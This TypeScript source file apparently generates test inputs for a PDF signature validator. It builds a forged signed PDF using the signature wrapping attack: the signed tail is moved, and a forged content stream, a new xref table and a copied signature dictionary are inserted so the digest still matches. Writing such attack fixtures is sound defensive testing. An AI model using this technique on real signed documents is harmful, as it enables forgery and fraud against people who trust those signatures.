import { PdfRef } from '../../../src/core/pdf/objects.js';
import { forgedText } from '../lib/content-change.js';
import type { Generator } from '../lib/context.js';
import { firstContentRef, layoutOf } from '../lib/inspect.js';

/**
 * Signature wrapping (CCS 2019 §4.3). The signed tail (from the end of /Contents to %%EOF) is moved to
 * the end of the file; the freed space gets a new cross-reference table exactly where the signed
 * `startxref` now points, a forged content stream, and a copy of the signature dictionary whose
 * /ByteRange names the moved tail. The signed bytes are unchanged, so the digest still matches:
 * only the rule "the gap is exactly this dictionary's /Contents" catches it.
 */
const swaMovedTail: Generator = async (ctx) => {
  const signed = await ctx.base('plain');
  const l = layoutOf(signed);
  const [, b, c, d] = l.byteRange as [number, number, number, number];
  const xrefAt = l.file.sections[0]!.offset;
  const contentNum = firstContentRef(l.pages[l.pages.length - 1]!).num;
  const sigNum = l.sig!.num;
  const originalHex = signed.toString('latin1', b, c);
  const root = l.file.trailer.get('Root') as PdfRef;
  const entries = new Map<number, number>();
  for (const [num, e] of l.file.sections[0]!.entries) if (e.type === 'offset') entries.set(num, e.offset);
  entries.set(contentNum, 0);
  entries.set(sigNum, 0);
  const xrefLength = tableText(entries, root, l.file.size, l.file.sections[1]!.offset).length;
  // Objects follow the forged table; its length does not depend on their offsets (fixed-width rows).
  let pos = xrefAt + xrefLength;
  const forged = forgedText(l.pages[l.pages.length - 1]!);
  const content = `${contentNum} 0 obj\n<</Length ${forged.length}>>\nstream\n${forged}\nendstream\nendobj\n`;
  entries.set(contentNum, pos);
  pos += content.length;
  const fillerEnd = pos + 256 + originalHex.length;
  const copy = `${sigNum} 0 obj\n<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 ${b} ${fillerEnd} ${d}] /Contents ${originalHex}>>\nendobj\n`;
  entries.set(sigNum, pos);
  pos += copy.length;
  const table = tableText(entries, root, l.file.size, l.file.sections[1]!.offset);
  if (table.length !== xrefLength || pos > fillerEnd) throw new Error('SWA layout does not fit');
  const filler = Buffer.alloc(fillerEnd - c, 0x20);
  filler.write(table + content + copy, xrefAt - c, 'latin1');
  return Buffer.concat([signed.subarray(0, c), filler, signed.subarray(c)]);
};

function tableText(entries: ReadonlyMap<number, number>, root: PdfRef, size: number, prev: number): string {
  const lines = ['xref', '0 1', '0000000000 65535 f '];
  for (const [num, off] of [...entries].sort((x, y) => x[0] - y[0])) lines.push(`${num} 1`, `${String(off).padStart(10, '0')} 00000 n `);
  return `${lines.join('\n')}\ntrailer\n<</Size ${size} /Root ${root.num} ${root.gen} R /Prev ${prev}>>\n`;
}

export const swaGenerators: Record<string, Generator> = {
  'swa-moved-signed-tail': swaMovedTail,
};
